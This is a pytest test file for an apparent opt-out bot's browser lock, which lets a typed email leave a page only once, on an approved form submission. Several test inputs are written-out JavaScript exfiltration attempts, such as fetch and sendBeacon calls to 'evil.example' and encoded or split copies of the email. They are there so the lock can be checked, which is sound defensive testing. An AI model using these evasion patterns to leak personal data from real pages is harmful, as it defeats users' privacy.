"""The lock and its ticket: what passes when, and what the person is told."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, TypeVar

import pytest
from loguru import logger
from playwright.sync_api import Browser, BrowserContext, Dialog, Page

from optout_bot.base.errors import BrowserError, NotSent
from optout_bot.browser.launch import Launch, open_tab
from optout_bot.browser.tab import Tab
from optout_bot.lock import guard, selftest
from optout_bot.lock.lock import Lock, Phase
from optout_bot.lock.request import Reply, Request
from optout_bot.lock.ticket import Ticket
from tests.conftest import EMAIL, FENCE, wanted
from tests.tiers import sampled

T = TypeVar("T")
HOST = "www.facebook.com"
FORM = f"https://{HOST}/help/contact/1"
SUBMIT = "/ajax/help/contact/submit/page"
PAGE = f"""<!doctype html><form action="{SUBMIT}" method=post target=into>
<input id=email name=email><button id=send>Send</button></form><iframe name=into></iframe>"""


def apart(do: Callable[[], T]) -> T:
    """Do it in a thread of its own: the shared browser is busy in this one."""
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(do).result()


def start(launch: Launch, server: Recorder | None = None) -> str:
    """Start as a run does, and say where the tab is."""

    def do() -> str:
        with open_tab(launch, server, lambda: None) as tab:
            return tab.page.url

    return apart(do)


class Recorder:
    """A site inside the browser; `received` is what it was sent, by method, path and body."""

    def __init__(self, page: str = PAGE) -> None:
        self.page = page
        self.received: list[str] = []

    def reply(self, method: str, address: str, body: str | None) -> Reply | None:
        if method == "GET" and address == FORM:
            return Reply(200, {"content-type": "text/html"}, self.page.encode())
        if not address.endswith("favicon.ico"):
            self.received.append(f"{method} {address} {body or ''}".strip())
        return Reply(200, {"content-type": "text/html"}, b"got it")


class Opened:
    """A page of the site, with the lock and the tab around it."""

    def __init__(
        self, context: BrowserContext, site: Recorder, check: Callable[[], None] = lambda: None
    ) -> None:
        self.site = site
        # As at a start: a blank page is there before the lock.
        context.new_page()
        self.lock = Lock(context, site)
        self.tab = Tab(context, self.lock, check)
        self.page: Page = self.tab.page
        if site.page:
            self.page.goto(FORM)

    def fill(self) -> None:
        self.lock.shut([EMAIL])
        self.page.locator("#email").fill(EMAIL)

    def pump(self) -> None:
        for _ in range(10):
            self.tab.pump()

    def send(self, script: str) -> None:
        self.page.evaluate(f"void ({script})")
        self.pump()


@pytest.fixture
def opened(browser: Browser) -> Iterator[Any]:
    """`opened(html)`: a page with that content, blank without any, under the lock."""
    made: list[tuple[BrowserContext, Lock]] = []

    def make(page: str = PAGE) -> Opened:
        context = browser.new_context()
        there = Opened(context, Recorder(page))
        made.append((context, there.lock))
        return there

    yield make
    for context, lock in made:
        context.close()
        lock.detach()


def ticket() -> Ticket:
    never = ("510058597920541",)
    return Ticket((HOST,), (("", EMAIL),), never, home=(HOST, "*.facebook.com"))


def post(body: str, path: str = SUBMIT, host: str = "") -> str:
    return f"fetch('{host}{path}', {{method: 'POST', body: '{body}', mode: 'no-cors'}})"


# The phases.


def test_before_anything_is_typed_a_person_can_sign_in_but_the_form_cannot_be_sent(
    opened: Any,
) -> None:
    there = opened()

    there.send(post("me", "/login/"))
    there.send(post("me"))

    assert there.site.received == [f"POST https://{HOST}/login/ me"]
    assert there.lock.stopped == [f"POST {HOST}{SUBMIT}"]


def test_a_body_that_is_still_open_when_typing_starts_is_refused(opened: Any) -> None:
    there = opened()
    there.send(post("closed", "/upload"))

    there.send(
        "fetch('/upload', {method: 'POST', duplex: 'half', body: new ReadableStream({"
        "start(c) { c.enqueue(new Uint8Array([65])); window.more = c; }})})"
    )

    assert there.site.received == [f"POST https://{HOST}/upload closed"]
    assert there.lock.stopped == [f"POST {HOST}/upload"]


@pytest.mark.thorough
def test_no_new_service_worker_is_left_behind(opened: Any) -> None:
    there = opened()

    there.send("navigator.serviceWorker.register('/worker.js')")

    assert there.site.received == []
    assert there.lock.stopped == [f"GET {HOST}/worker.js"]


def test_a_browser_that_went_away_before_the_typing_is_said_in_one_line(opened: Any) -> None:
    there = opened()
    there.lock.detach()

    with pytest.raises(NotSent, match="closed"):
        there.lock.shut([EMAIL])


def test_from_the_first_character_not_even_a_plain_read_leaves(opened: Any) -> None:
    there = opened()
    there.send("fetch('/plain')")
    there.fill()

    there.send("fetch('/plain?2')")

    assert there.site.received == [f"GET https://{HOST}/plain"]
    assert wanted(there.lock.stopped) == [f"GET {HOST}/plain"]


def test_what_was_stopped_is_written_down_without_query_and_body(opened: Any) -> None:
    there = opened()
    there.fill()

    there.send(post(EMAIL, f"/x?q={EMAIL}"))

    assert wanted(there.lock.stopped) == [f"POST {HOST}/x"]


def test_the_phases_in_their_order(opened: Any) -> None:
    there = opened()
    phases = [there.lock.phase]
    there.fill()
    phases.append(there.lock.phase)
    there.lock.ticket(ticket())
    phases.append(there.lock.phase)

    assert phases == [Phase.LOOK, Phase.FILLING, Phase.TICKET]


def test_where_nothing_is_to_be_sent_only_reads_pass(opened: Any) -> None:
    there = opened()
    there.lock.only_reads()

    there.send(f"fetch('/plain'), {post('x', '/login')}")

    assert there.site.received == [f"GET https://{HOST}/plain"]


def test_a_ticket_that_was_not_used_shuts_again(opened: Any) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket())
    there.lock.shut()

    there.send("fetch('/plain')")
    there.send(post(EMAIL))

    assert there.site.received == []


ELSEWHERE = "https://www.facebook.com.example.org"


def used(there: Opened) -> Ticket:
    """The form is filled and sent; the ticket that let it out."""
    there.fill()
    given = there.lock.ticket(ticket())
    there.send(post(EMAIL))
    assert given.used
    return given


def test_once_it_is_used_the_page_goes_on_but_says_nothing_of_it_again(opened: Any) -> None:
    there = opened()
    used(there)

    there.send(post("nonce=123456", "/code"))
    there.send(post("doc=thanks", "/api/graphql/"))
    for again in (post(EMAIL), post(f"c=1&e={EMAIL}", "/code"), post(EMAIL[::-1], "/x")):
        there.send(again)
    there.send(post(f"from={EMAIL}", "/log", ELSEWHERE))
    there.send(post("what=else", "/log", ELSEWHERE))

    assert there.site.received[1:] == [
        f"POST https://{HOST}/code nonce=123456",
        f"POST https://{HOST}/api/graphql/ doc=thanks",
        f"POST {ELSEWHERE}/log what=else",
    ]


def blob(path: str) -> str:
    return f"fetch('{path}', {{method: 'POST', body: new Blob(['{EMAIL}'])}})"


@pytest.mark.parametrize(
    "sending",
    sampled(
        [
            f"fetch('/x?{EMAIL}')",
            f"fetch('/x', {{headers: {{'x-mail': '{EMAIL}'}}}})",
            f"navigator.sendBeacon('/x', '{EMAIL}')",
            f"navigator.sendBeacon('/x', new Blob(['{EMAIL}']))",
            blob("/x"),
            f"fetch('/x', {{headers: {{['x' + '{EMAIL.encode().hex()}']: '1'}}}})",
            f"fetch('/x', {{method: 'PUT', body: '{EMAIL}'}})",
            post(EMAIL, "/x", "https://m.facebook.com"),
            post(EMAIL, "/x", "https://evil.example"),
            f"navigator.sendBeacon('https://evil.example/x', '{EMAIL}')",
        ],
        2,
    ),
)
def test_once_it_is_used_it_is_not_said_again_in_any_way(opened: Any, sending: str) -> None:
    there = opened()
    used(there)

    there.send(sending)

    assert len(there.site.received) == 1


def test_of_several_values_one_may_go_on_to_the_site_and_none_to_others(opened: Any) -> None:
    there = opened()
    there.lock.shut([EMAIL, "my reason"])
    both = f"email={EMAIL}&why=my%20reason"
    named = (("email", EMAIL), ("why", "my reason"))
    there.lock.ticket(Ticket((HOST,), named, home=("*.facebook.com",)))
    there.send(post(both))

    there.send(post(f"code=1&email={EMAIL}", "/code"))
    there.send(post(both, "/code"))
    there.send(post("why=my%20reason", "/x", "https://evil.example"))

    assert there.site.received[1:] == [f"POST https://{HOST}/code code=1&email={EMAIL}"]


@pytest.mark.thorough
def test_once_it_is_used_a_page_that_is_loaded_anew_does_not_send_again(opened: Any) -> None:
    there = opened(PAGE.replace(" target=into", ""))
    there.fill()
    there.lock.ticket(ticket_named())
    there.page.locator("#send").click()
    there.pump()
    assert len(there.site.received) == 1

    there.page.evaluate("void setTimeout(() => location.reload())")
    there.pump()

    assert len(there.site.received) == 1
    assert there.lock.again.place == f"POST {HOST}{SUBMIT}"


def ticket_named() -> Ticket:
    return Ticket((HOST,), (("email", EMAIL),), home=(HOST,))


# The same once more, with a yes of its own.


def test_the_same_again_is_told_and_leaves_once_on_a_second_ticket(opened: Any) -> None:
    there = opened()
    used(there)
    assert there.lock.again is None
    there.send(post(f"a={EMAIL}&confirmed=1", "/confirm"))
    again = there.lock.again
    assert (again.place, len(there.site.received)) == (f"POST {HOST}/confirm", 1)

    second = there.lock.ticket_again()
    there.send(post("what=else", "/log"))
    there.send(post(f"a={EMAIL}"))
    for _ in range(2):
        there.send(post(f"a={EMAIL}&confirmed=1", "/confirm"))

    assert second.used.place == again.place
    assert there.site.received[1:] == [
        f"POST https://{HOST}/log what=else",
        f"POST https://{HOST}/confirm a={EMAIL}&confirmed=1",
    ]
    # It asks once more: that would be a third one, for a yes of its own.
    assert there.lock.again is not None


@pytest.mark.parametrize(
    "sending",
    sampled(
        [
            f"navigator.sendBeacon('/x', '{EMAIL}')",
            f"fetch('/x?{EMAIL}')",
            post(EMAIL, "/draft"),
            post(EMAIL, "/x", "https://evil.example"),
            post("nothing"),
        ],
        2,
    ),
)
def test_a_copy_is_no_reason_to_ask_for_a_second_ticket(opened: Any, sending: str) -> None:
    there = opened()
    used(there)

    there.send(sending)

    assert there.lock.again is None
    with pytest.raises(NotSent, match="did not ask"):
        there.lock.ticket_again()


def test_a_second_ticket_that_ran_out_lets_nothing_through(opened: Any) -> None:
    there = opened()
    used(there)
    there.send(post(EMAIL))
    there.lock.ticket_again().expires = 0.0

    there.send(post(EMAIL))

    assert len(there.site.received) == 1


def test_a_shut_lock_opens_for_no_second_ticket(opened: Any) -> None:
    there = opened()
    used(there)
    there.send(post(EMAIL))
    there.lock.shut()

    with pytest.raises(NotSent):
        there.lock.ticket_again()


# The ticket.


def test_of_three_requests_on_one_ticket_one_leaves(opened: Any) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket())

    there.send(f"{post(EMAIL)}, {post(EMAIL)}, {post(EMAIL)}")

    assert there.site.received == [f"POST https://{HOST}{SUBMIT} {EMAIL}"]
    assert wanted(there.lock.stopped) == [f"POST {HOST}{SUBMIT}"] * 2


@pytest.mark.parametrize("path", ["/elsewhere", "/api/graphql/", "/login", "/x/catalog"])
def test_a_ticket_is_for_whatever_path_the_form_is_sent_to(opened: Any, path: str) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket())

    there.send(post(f"a={EMAIL}", path))

    assert there.site.received == [f"POST https://{HOST}{path} a={EMAIL}"]


@pytest.mark.parametrize("copy", ["/draft", "/log"])
def test_a_copy_does_not_use_the_ticket_up_nor_shorten_its_time(opened: Any, copy: str) -> None:
    there = opened()
    there.fill()
    given = there.lock.ticket(ticket())
    end = given.expires

    there.send(f"{post(EMAIL, copy)}, {post('what=else', '/x')}")
    assert (given.used, given.refused, given.expires) == (None, None, end)
    there.send(post(EMAIL))

    assert there.site.received == [f"POST https://{HOST}{SUBMIT} {EMAIL}"]


@pytest.mark.parametrize(
    "sending",
    sampled(
        [
            post("another@example.org"),
            post(EMAIL, "/ajax/save_draft"),
            post(EMAIL, "/ajax/autosave"),
            post(EMAIL, "/logging/x"),
            post(f"email={EMAIL}&fb_api_req_friendly_name=ContactDraftMutation"),
            post(f"email={EMAIL}&is_autosave=1"),
            post(f"email={EMAIL}&form=510058597920541"),
            post(f"email={EMAIL}", f"{SUBMIT}?form=510058597920541"),
            post(f"email={EMAIL}", "/help/contact/510058597920541/submit"),
            f"new Image().src = '{SUBMIT}?email={EMAIL}'",
            f"fetch('/x', {{headers: {{'x-mail': '{EMAIL}'}}}})",
            f"fetch('/x', {{headers: {{'x-mail': btoa('{EMAIL}')}}}})",
            post(EMAIL, host="https://evil.example"),
            f"navigator.sendBeacon('{SUBMIT}', '{EMAIL}')",
            f"fetch('{SUBMIT}', {{method: 'PUT', body: '{EMAIL}'}})",
            f"fetch('{SUBMIT}?email={EMAIL}')",
            f"fetch('/x?' + btoa('{EMAIL}'))",
            "fetch('/x/' + '" + EMAIL + "'.match(/..?/g).join('/'))",
            "fetch('/x?' + [...'" + EMAIL + "'].reverse().join(''))",
        ],
        2,
    ),
)
def test_a_ticket_is_for_nothing_else(opened: Any, sending: str) -> None:
    there = opened()
    there.fill()
    given = there.lock.ticket(ticket())

    there.send(sending)

    assert there.site.received == []
    assert given.used is None


def test_a_ticket_that_ran_out_lets_nothing_through(opened: Any) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket()).expires = 0.0

    there.send(post(EMAIL))

    assert there.site.received == []


def test_after_the_ticket_the_page_reads_again_but_not_with_what_was_typed(opened: Any) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket())
    there.send(post(EMAIL))

    there.send(f"fetch('/done'), fetch('/done?{EMAIL}'), {post(EMAIL)}")

    assert there.site.received[1:] == [f"GET https://{HOST}/done"]


# Whatever goes wrong in its own code.


def fails(*args: object) -> bool:
    raise RecursionError(EMAIL)


@pytest.mark.parametrize("phase", ["filling", "ticket"])
def test_a_request_over_which_the_lock_fails_is_stopped_and_the_run_goes_on(
    opened: Any, monkeypatch: pytest.MonkeyPatch, phase: str
) -> None:
    there = opened()
    there.fill()
    if phase == "ticket":
        there.lock.ticket(ticket())
    said: list[str] = []
    sink = logger.add(said.append)
    with monkeypatch.context() as failing:
        failing.setattr(Lock, "passes", fails)
        there.send(f"{post(EMAIL)}, fetch('/x?{EMAIL}')")
    logger.remove(sink)

    assert there.site.received == []
    assert wanted(there.lock.stopped)[:2] == [f"POST {HOST}", f"GET {HOST}"]
    assert "RecursionError" in "".join(said)
    assert EMAIL not in "".join(said)
    there.lock.ticket(ticket())
    there.send(post(EMAIL))
    assert there.site.received == [f"POST https://{HOST}{SUBMIT} {EMAIL}"]


def test_a_request_that_cannot_be_written_down_is_stopped_too(
    opened: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    there = opened()
    there.fill()
    monkeypatch.setattr("optout_bot.lock.lock.carries", fails)

    there.send(post(EMAIL))

    assert there.site.received == []
    assert f"POST {HOST}" in there.lock.stopped


@pytest.mark.parametrize("levels", [40, 3000])
def test_a_body_nested_too_deep_is_not_what_was_approved(opened: Any, levels: int) -> None:
    there = opened()
    there.fill()
    given = there.lock.ticket(ticket())
    body = f"'['.repeat({levels}) + '\"{EMAIL}\"' + ']'.repeat({levels})"

    there.send(f"fetch('{SUBMIT}', {{method: 'POST', body: {body}}})")

    assert len(there.site.received) == (1 if levels < 50 else 0)
    assert (given.used is None) == (levels > 50)


@pytest.mark.thorough
def test_an_address_of_two_megabytes_is_stopped_at_once(opened: Any) -> None:
    there = opened()
    there.fill()
    there.lock.ticket(ticket())
    there.send(post(EMAIL))
    before = time.process_time()

    there.send("fetch('/x?' + 'a=b&'.repeat(500000))")

    assert time.process_time() - before < 2
    assert len(there.site.received) == 1
    assert f"GET {HOST}/x" in there.lock.stopped


# What the person sees.


def test_a_person_who_presses_the_pages_own_button_is_told_why_nothing_happened(
    opened: Any,
) -> None:
    there = opened()
    there.fill()
    before = there.page.screenshot()

    there.page.locator("#send").click()
    there.pump()

    assert guard.explain(there.page)
    assert there.site.received == []
    assert there.page.screenshot() != before
    assert there.page.evaluate("document.documentElement.lastElementChild.localName") == "div"
    assert there.page.locator("html > div button, html > div input").count() == 0


def test_the_page_is_not_covered_when_it_sends_by_itself(opened: Any) -> None:
    there = opened()
    there.fill()

    there.send(post(EMAIL))

    assert not guard.explain(there.page)
    assert there.page.evaluate("document.documentElement.lastElementChild.localName") == "body"


@pytest.mark.thorough
def test_the_note_shows_under_the_strictest_policy(browser: Browser) -> None:
    context = browser.new_context()
    site = Recorder(PAGE.replace(" target=into", ""))
    strict = "default-src 'none'; require-trusted-types-for 'script'; trusted-types 'none'"
    plain = site.reply

    def reply(method: str, address: str, body: str | None) -> Reply | None:
        made = plain(method, address, body)
        return (
            Reply(made.status, made.headers | {"content-security-policy": strict}, made.body)
            if made
            else None
        )

    site.reply = reply  # type: ignore[method-assign]
    there = Opened(context, site)
    try:
        there.fill()
        there.page.locator("#send").click()
        there.pump()
        assert guard.explain(there.page)
        note = there.page.evaluate(
            "getComputedStyle(document.documentElement.lastElementChild).display"
        )
        assert note == "block"
        assert there.page.evaluate("document.documentElement.lastElementChild.localName") == "div"
    finally:
        context.close()
        there.lock.detach()


@pytest.mark.parametrize(
    ("asks", "answered"),
    sampled(
        [("confirm('Send?')", False), ("prompt('Send?', 'yes')", None), ("alert('x')", None)], 1
    ),
)
def test_no_dialog_of_a_page_is_answered_yes(opened: Any, asks: str, answered: object) -> None:
    there = opened()

    assert there.page.evaluate(asks) is answered


ASKS = "<script>onbeforeunload = e => e.preventDefault()</script><button>x</button>"


def elsewhere(there: Opened) -> None:
    there.page.locator("button").click()
    there.page.evaluate("void setTimeout(() => location = '/elsewhere')")
    there.pump()


def test_a_page_that_asks_whether_to_leave_is_stayed_on(opened: Any) -> None:
    there = opened(ASKS)
    elsewhere(there)

    assert there.site.received == []
    assert there.page.url == FORM


def test_a_page_that_asks_whether_to_leave_is_left_where_we_move_on(opened: Any) -> None:
    there = opened(ASKS)
    there.tab.moves_on()
    elsewhere(there)

    assert there.site.received == [f"GET https://{HOST}/elsewhere"]


@pytest.mark.parametrize("stays", sampled([True, False], 1))
def test_whether_a_page_is_left_that_the_person_acts_in_is_theirs_to_say(
    browser: Browser, stays: bool
) -> None:
    context = browser.new_context()
    asked: list[Dialog] = []
    context.on("dialog", lambda dialog: asked.append(dialog))
    turns = 0

    def person() -> None:
        nonlocal turns
        turns += bool(asked)
        if turns == 5:
            (asked[0].dismiss if stays else asked[0].accept)()

    there = Opened(context, Recorder(ASKS), person)
    try:
        with there.tab.handed_over(time.monotonic() + 30):
            there.page.locator("button").click()
            there.page.evaluate("void setTimeout(() => location = '/elsewhere')")
            while turns < 6:
                there.tab.pump()
            if not stays:
                there.page.wait_for_url("**/elsewhere")
        assert len(asked) == 1
        assert there.site.received == ([] if stays else [f"GET https://{HOST}/elsewhere"])
    finally:
        context.close()
        there.lock.detach()


@pytest.mark.thorough
def test_a_question_before_leaving_that_nobody_answers_does_not_hold_a_run_up(
    browser: Browser,
) -> None:
    context = browser.new_context()
    end = time.monotonic() + 20

    def in_time() -> None:
        assert time.monotonic() < end

    there = Opened(context, Recorder(ASKS), in_time)
    try:
        with there.tab.handed_over(time.monotonic() + 1):
            elsewhere(there)
        assert there.page.url == FORM
        assert there.site.received == []
    finally:
        context.close()
        there.lock.detach()


@pytest.mark.thorough
def test_a_dialog_of_a_popup_is_not_answered_yes_either(opened: Any) -> None:
    there = opened()
    seen: list[Dialog] = []
    there.page.context.on("dialog", lambda dialog: seen.append(dialog))
    there.send("open('about:blank').setTimeout('opener.said = confirm()')")

    assert len(seen) == 1
    assert there.page.evaluate("window.said") is False


# The start.


@pytest.fixture
def launch(browser_type_launch_args: dict[str, Any], tmp_path: Path) -> Launch:
    sandbox = bool(browser_type_launch_args["chromium_sandbox"])
    return Launch("auto", tmp_path / "profile", True, sandbox, (FENCE,))


def test_every_start_tries_the_lock_and_finds_four_ways_stopped(
    opened: Any, launch: Launch
) -> None:
    there = opened("")

    assert selftest.table(there.page, there.lock) == dict.fromkeys(selftest.WAYS, "")
    assert there.lock.phase is Phase.LOOK
    assert there.lock.stopped == []


def test_a_lock_that_lets_things_pass_ends_the_start(
    launch: Launch, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Lock, "passes", lambda self, request: True)
    monkeypatch.setattr(selftest, "_SECONDS", 0.5)

    with pytest.raises(BrowserError, match="lock does not hold"):
        start(launch)


@pytest.mark.parametrize("way", sampled(selftest.WAYS, 1))
def test_a_lock_that_lets_one_way_pass_ends_the_start(
    opened: Any, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    there = opened("")
    passes = Lock.passes

    def leaky(self: Lock, request: Request) -> bool:
        return request.address.endswith(f"/{way}") or passes(self, request)

    monkeypatch.setattr(Lock, "passes", leaky)
    monkeypatch.setattr(selftest, "_SECONDS", 0.5)

    with pytest.raises(BrowserError):
        selftest.check(there.page, there.lock)


def test_a_browser_without_the_lock_is_refused(
    launch: Launch, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Lock, types: tuple[str, ...]) -> None:
        self._cdp.send("Fetch.enable", {"patterns": "nonsense"})

    monkeypatch.setattr(Lock, "_see", refuse)

    with pytest.raises(BrowserError, match="refuses the lock"):
        start(launch)


@pytest.mark.thorough
def test_the_self_test_holds_where_every_address_leads_to_another_server(launch: Launch) -> None:
    elsewhere = "--host-resolver-rules=MAP * 127.0.0.1:9"
    there = Launch(launch.browser, launch.profile, True, launch.sandbox, (elsewhere,))

    assert start(there) == "about:blank"


def test_a_download_is_refused(launch: Launch, tmp_path: Path) -> None:
    def do() -> str | None:
        with open_tab(launch, Recorder(), lambda: None) as tab:
            tab.go(FORM)
            tab.page.set_content("<a href='data:text/plain,x' download=planted.txt>get</a>")
            with tab.page.expect_download() as download:
                tab.page.locator("a").click()
            return download.value.failure()

    assert apart(do) is not None
    assert list(tmp_path.rglob("*planted*")) == []
